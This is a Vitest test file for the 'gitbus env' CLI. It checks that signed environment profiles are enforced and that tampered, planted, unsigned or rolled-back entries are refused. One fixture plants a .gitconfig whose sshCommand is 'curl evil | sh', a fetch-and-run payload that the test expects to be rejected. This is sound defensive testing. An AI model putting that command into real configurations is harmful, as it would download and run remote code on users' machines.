import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gitbus, gitCli, json } from '../helpers/cli.js';
import { envFleet, type EnvBus } from '../helpers/env-fleet.js';
import { fingerprintOf } from '../helpers/ssh-keys.js';

/**
 * Environment sync (issue 12) against entries a node cannot vouch for (test/helpers/env-fleet.ts: nodes a and b,
 * fake HOMEs, a real bare remote, the CLI). A capture reads only entries its node captured or
 * applied; on a bus with a trust root only a profile signed by someone a rule allows to run shell tasks on b is
 * applied, an entry planted unsigned is never signed, a file changed on the bus behind its manifest's back and an
 * older profile put back are refused, and an unsigned profile listed before a signed one holds none of its files.
 *
 * The fleet starts where a node in use is: a captured "claude", b applied it and keeps a file of its own in b's
 * variant, and b edited ~/.zshrc and CLAUDE.md since (held on every apply, so an apply writes only what a changed).
 */

const fleet = envFleet();
const { fakeHome, cli, envCmd, put, read, onBus, busFiles, editNode, byHand, plantEntry, states, ok, errorOf, envOf } = fleet;
let bus: EnvBus;

beforeAll(async () => {
  bus = await fleet.start();
  fleet.seedHomes();
  put('a', '.zshrc', 'export PATH="$HOME/bin:$PATH"\nalias gs="git status"\n');
  ok(await envCmd('a', ['capture', 'claude']));
  // Shared by choice: a new profile leaves ~/.gitconfig out unless --add names it.
  ok(await envCmd('a', ['capture', 'claude', '--add', '~/.gitconfig']));
  ok(await envCmd('b', ['apply', 'claude', '--force']));
  put('b', '.config/starship.toml', 'format = "$all"\n');
  ok(await envCmd('b', ['capture', 'claude', '--add', '~/.config/starship.toml', '--variant', 'node']));
  put('b', '.zshrc', 'export PATH="$HOME/bin:$PATH"\nalias ll="ls -l"\n');
  put('b', '.claude/CLAUDE.md', '# house rules\nbe very brief\n');
}, 30_000);

afterAll(() => fleet.stop());

describe('gitbus env', () => {
  it('a capture reads only entries this node captured or applied: a folder entry pushed by hand is neither read nor uploaded', async () => {
    byHand((work) => plantEntry(work, 'claude', { source: 'home/notes', target: '~/notes', kind: 'dir' }));
    put('a', 'notes/bank.txt', 'pin 1234\n');
    put('a', '.claude/CLAUDE.md', '# house rules\nbe brief\nrun the tests\nsay why\nno secrets\n');
    const r = await envCmd('a', ['capture', 'claude']);
    ok(r);
    const got = json<{ notTaken: string[]; files: { target: string; changed: boolean }[] }>(r);
    expect(got.notTaken).toEqual(['~/notes']);
    expect(got.files.filter((f) => f.changed).map((f) => f.target)).toEqual(['~/.claude/CLAUDE.md']);
    expect(got.files.some((f) => f.target.startsWith('~/notes'))).toBe(false);
    expect(busFiles().filter((f) => f.includes('notes'))).toEqual([]);
    expect(onBus('env/claude/manifest.yaml')).toMatch(/target: ~\/notes/);
    const human = await gitbus(['env', 'capture', 'claude'], { home: bus.home('a'), env: envOf('a') });
    expect(human.stdout).toContain('not read ~/notes: this node never captured or applied it');
  });

  describe('on a bus with a trust root', () => {
    const keys = () => join(bus.dir, 'keys');
    const key = (name: string) => join(keys(), name);
    const fp = (name: string) => fingerprintOf(`${key(name)}.pub`);

    beforeAll(async () => {
      editNode('b', (c) => (c['env'] = [{ profile: 'claude', apply: 'manual' }]));
      mkdirSync(keys());
      for (const name of ['alice', 'bob']) execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', name, '-f', key(name)]);
      ok(await cli('a', ['trust', 'init', '--admin', `alice=${key('alice')}.pub`, '--key', key('alice')]));
      ok(await cli('a', ['trust', 'add', 'signer', 'bob', `${key('bob')}.pub`, '--key', key('alice')]));
      ok(await cli('a', ['trust', 'add', 'rule', '--signers', 'bob', '--runners', 'claude', '--nodes', '*', '--key', key('alice')]));
      ok(await cli('b', ['trust', 'pin', '--trust', fp('alice')]));
    }, 30_000);

    it('applies only a profile signed by someone a rule lets run shell tasks on the node', async () => {
      put('a', '.gitconfig', '[user]\n\tname = a\n[pull]\n\trebase = true\n');
      const noKey = await envCmd('a', ['capture', 'claude']);
      expect(noKey.code).toBe(7);
      expect(errorOf(noKey).code).toBe('SIGNING_REQUIRED');
      ok(await envCmd('a', ['capture', 'claude', '--unsigned']));
      const unsigned = await envCmd('b', ['apply']);
      expect(unsigned.code).toBe(8);
      // The fix names the profile, as a command to run: not "PROFILE".
      expect(errorOf(unsigned)).toMatchObject({ code: 'ENV_PROFILE_UNTRUSTED', message: expect.stringMatching(/unsigned: env\/claude\/manifest\.yaml has no signature/), fix: expect.stringMatching(/git log -p on the bus's main, env\/claude\).*"gitbus env capture claude --rebuild"/) });
      expect(json<{ profiles: { fix: string | null }[] }>(await envCmd('b', ['status'])).profiles[0]?.fix).not.toMatch(/PROFILE/);
      expect(read('b', '.gitconfig')).not.toMatch(/rebase/);

      editNode('a', (c) => (c['signingKey'] = key('bob')));
      // The profile holds b's variant and the folder entry pushed by hand: a never verified nor made them, and will
      // not sign them.
      const unverified = await envCmd('a', ['capture', 'claude']);
      expect(unverified.code).toBe(8);
      expect(errorOf(unverified)).toMatchObject({ code: 'ENV_CAPTURE_UNVERIFIED', message: expect.stringMatching(/~\/\.config\/starship\.toml, ~\/notes, which this node neither verified nor captured or applied itself/), fix: expect.stringMatching(/--rebuild/) });
      const byBob = await envCmd('a', ['capture', 'claude', '--rebuild']);
      ok(byBob);
      expect(json<{ leftOut: string[] }>(byBob).leftOut).toEqual(['~/.config/starship.toml', '~/notes']);
      expect(onBus('env/claude/manifest.yaml')).not.toMatch(/starship|notes/);
      expect(json<{ signed: boolean }>(byBob).signed).toBe(true);
      expect(onBus('signatures/env/claude/manifest.yaml.sig')).toMatch(/BEGIN SSH SIGNATURE/);
      const notAllowed = await envCmd('b', ['apply']);
      expect(notAllowed.code).toBe(8);
      expect(errorOf(notAllowed).message).toMatch(/signed by bob .*who may not change what node b runs/);

      editNode('a', (c) => (c['signingKey'] = key('alice')));
      put('a', '.gitconfig', '[user]\n\tname = a\n[pull]\n\trebase = true\n[push]\n\tdefault = current\n');
      ok(await envCmd('a', ['capture', 'claude']));
      const signed = await envCmd('b', ['apply']);
      expect(signed.code, signed.stdout).toBe(5); // ~/.zshrc is still changed here, and left as it is
      expect(json<{ results: { written: string[] }[] }>(signed).results[0]?.written).toEqual(['~/.gitconfig']);
      expect(read('b', '.gitconfig')).toMatch(/default = current/);
    });

    it('refuses a profile whose file changed on the bus behind its manifest\'s back; capture writes it over', async () => {
      const work = join(bus.dir, 'person');
      gitCli(['clone', '-q', bus.remote, work]);
      writeFileSync(join(work, 'env/claude/files/home/.gitconfig'), '[core]\n\tsshCommand = curl evil | sh\n');
      gitCli(['-c', 'user.name=p', '-c', 'user.email=p@x', 'commit', '-qam', 'by hand'], work);
      gitCli(['push', '-q', 'origin', 'HEAD:main'], work);
      const refused = await envCmd('b', ['apply']);
      expect(refused.code).toBe(8);
      expect(errorOf(refused)).toMatchObject({ code: 'ENV_PROFILE_INVALID', message: expect.stringMatching(/home\/\.gitconfig: its content is not what the manifest names/) });
      expect(read('b', '.gitconfig')).not.toMatch(/evil/);
      const lint = await cli('a', ['lint']);
      expect(lint.code).toBe(8);
      const again = await envCmd('a', ['capture', 'claude']);
      ok(again);
      expect(json<{ repaired: boolean; signed: boolean }>(again)).toMatchObject({ repaired: true, signed: true });
      expect(await states('b')).toMatchObject({ '~/.gitconfig': 'in-sync', '~/.zshrc': 'changed-here' });
      expect(existsSync(join(fakeHome('b'), '.claude/settings.local.json'))).toBe(false);
    });

    it('never signs an entry planted unsigned: a routine capture refuses, --rebuild leaves it out, and b never gets it', async () => {
      byHand((work) => plantEntry(work, 'claude', { source: 'home/.bash_login', target: '~/.bash_login' }, { source: 'home/.bash_login', text: 'echo PWNED\n', executable: true }));
      const untrusted = await envCmd('b', ['apply']);
      expect(untrusted.code).toBe(8);
      expect(errorOf(untrusted)).toMatchObject({ code: 'ENV_PROFILE_UNTRUSTED', fix: expect.stringMatching(/look at what changed first .*--rebuild/) });
      put('a', '.gitconfig', '[user]\n\tname = a\n[pull]\n\trebase = true\n[push]\n\tdefault = simple\n');
      const refused = await envCmd('a', ['capture', 'claude']);
      expect(refused.code).toBe(8);
      expect(errorOf(refused)).toMatchObject({ code: 'ENV_CAPTURE_UNVERIFIED', message: expect.stringMatching(/~\/\.bash_login, which this node neither verified/) });
      const rebuilt = await envCmd('a', ['capture', 'claude', '--rebuild']);
      ok(rebuilt);
      expect(json<{ leftOut: string[]; signed: boolean }>(rebuilt)).toMatchObject({ leftOut: ['~/.bash_login'], signed: true });
      expect(onBus('env/claude/manifest.yaml')).not.toMatch(/bash_login/);
      const applied = await envCmd('b', ['apply']);
      expect(applied.code, applied.stdout).toBe(5); // ~/.zshrc is still changed here
      expect(json<{ results: { written: string[] }[] }>(applied).results[0]?.written).toEqual(['~/.gitconfig']);
      expect(existsSync(join(fakeHome('b'), '.bash_login'))).toBe(false);
    });

    it('refuses an older signed profile put back on the bus (a rollback), until it is captured again', async () => {
      const old = gitCli(['rev-parse', 'main'], bus.remote).trim();
      put('a', '.gitconfig', '[user]\n\tname = a\n[pull]\n\trebase = true\n[push]\n\tdefault = simple\n[fetch]\n\tprune = true\n');
      ok(await envCmd('a', ['capture', 'claude']));
      expect((await envCmd('b', ['apply'])).code).toBe(5);
      expect(read('b', '.gitconfig')).toMatch(/prune/);
      byHand((work) => gitCli(['checkout', old, '--', 'env/claude', 'signatures/env/claude'], work));
      const status = await envCmd('b', ['status', 'claude']);
      ok(status);
      expect(json<{ profiles: { problem: string }[] }>(status).profiles[0]?.problem).toMatch(/^stale: .*older than the one this node last applied/);
      const stale = await envCmd('b', ['apply']);
      expect(stale.code).toBe(8);
      expect(errorOf(stale)).toMatchObject({ code: 'ENV_PROFILE_STALE', fix: expect.stringMatching(/gitbus env capture claude --rebuild/) });
      expect(read('b', '.gitconfig')).toMatch(/prune/);
      // a signs nothing over it (nothing of its own changed); rebuilt from its own files, the profile is newer than both.
      const plain = await envCmd('a', ['capture', 'claude']);
      ok(plain);
      // It says the bus's profile is the older one (it said "the bus has a newer one"), and how to end it.
      expect(json<{ commit: string | null; stale?: string }>(plain)).toMatchObject({ commit: null, stale: expect.stringMatching(/older than the one this node last applied or captured/) });
      const text = await gitbus(['env', 'capture', 'claude'], { home: bus.home('a'), env: envOf('a') });
      expect(text.stdout).toContain('gitbus env capture claude --rebuild" signs a newer profile');
      expect(text.stdout).not.toContain('the bus has a newer one');
      ok(await envCmd('a', ['capture', 'claude', '--rebuild']));
      expect(onBus('env/claude/files/home/.gitconfig')).toMatch(/prune/);
      expect((await states('b'))['~/.gitconfig']).toBe('in-sync');
    });

    it('an unsigned profile listed first in node.yaml holds no file of a signed one: it is refused, and the signed one is applied there', async () => {
      put('a', '.tmux.conf', 'set -g mouse off\n');
      ok(await envCmd('a', ['capture', 'loose', '--add', '~/.tmux.conf', '--unsigned']));
      put('a', '.tmux.conf', 'set -g mouse on\n');
      ok(await envCmd('a', ['capture', 'claude', '--add', '~/.tmux.conf']));
      editNode('b', (c) => (c['env'] = [{ profile: 'loose', apply: 'manual' }, { profile: 'claude', apply: 'manual' }]));
      type Row = { target: string; state: string; action: string; held?: string };
      const status = await envCmd('b', ['status']);
      ok(status);
      const [loose, claude] = json<{ profiles: { profile: string; problem: string | null; files: Row[] }[] }>(status).profiles;
      expect(loose).toMatchObject({ profile: 'loose', problem: expect.stringMatching(/^untrusted: unsigned/) });
      const tmux = claude?.files.find((f) => f.target === '~/.tmux.conf');
      expect(tmux).toMatchObject({ state: 'missing-here', action: 'write' });
      expect(tmux?.held).toBeUndefined();
      // All of them at once: nothing is written while one is refused.
      const all = await envCmd('b', ['apply']);
      expect(all.code).toBe(8);
      expect(errorOf(all)).toMatchObject({ code: 'ENV_PROFILE_UNTRUSTED', message: expect.stringMatching(/^profile loose is not applied/) });
      expect(existsSync(join(fakeHome('b'), '.tmux.conf'))).toBe(false);
      const signed = await envCmd('b', ['apply', 'claude']);
      expect(signed.code, signed.stdout).toBe(5); // ~/.zshrc and CLAUDE.md are still changed here
      const applied = json<{ results: { written: string[]; held: { target: string }[] }[] }>(signed).results[0];
      expect(applied?.written).toEqual(['~/.tmux.conf']);
      expect(applied?.held.map((h) => h.target)).toEqual(['~/.claude/CLAUDE.md', '~/.zshrc']);
      expect(read('b', '.tmux.conf')).toBe('set -g mouse on\n');
    });

    it('a manifest whose signature is a folder or a symbolic link is named as such, with the fix, not taken for no signature', async () => {
      const sig = 'signatures/env/claude/manifest.yaml.sig';
      const refusal = async (is: string) => {
        const status = await envCmd('b', ['status', 'claude']);
        ok(status);
        const p = json<{ profiles: { problem: string | null; fix: string | null }[] }>(status).profiles[0];
        expect(p?.problem).toMatch(new RegExp(`^untrusted: unsigned: ${sig.replace(/\./g, '\\.')} is ${is}, not a signature file: gitbus never reads one, so env/claude/manifest\\.yaml has no signature it can check, and this bus has a trust root \\(version \\d+\\)$`));
        expect(p?.fix).toBe(`remove it ("git rm -r ${sig}"; "git log -- ${sig}" shows who pushed it), then capture the profile again from a node with a signing key an allowed signer holds (node.yaml signingKey): "gitbus env capture claude --rebuild" signs only what that node captured or applied itself and what --add names`);
        const apply = await envCmd('b', ['apply', 'claude']);
        expect(apply.code).toBe(8);
        expect(errorOf(apply)).toMatchObject({ code: 'ENV_PROFILE_UNTRUSTED', message: expect.stringContaining(`${sig} is ${is}, not a signature file`), fix: p?.fix });
      };
      byHand((work) => {
        rmSync(join(work, sig));
        mkdirSync(join(work, sig));
        writeFileSync(join(work, sig, 'readme'), 'not a signature\n');
      });
      await refusal('a folder');
      byHand((work) => {
        rmSync(join(work, sig), { recursive: true });
        symlinkSync('../../env/claude/manifest.yaml', join(work, sig));
      });
      await refusal('a symbolic link');
    });
  });
});
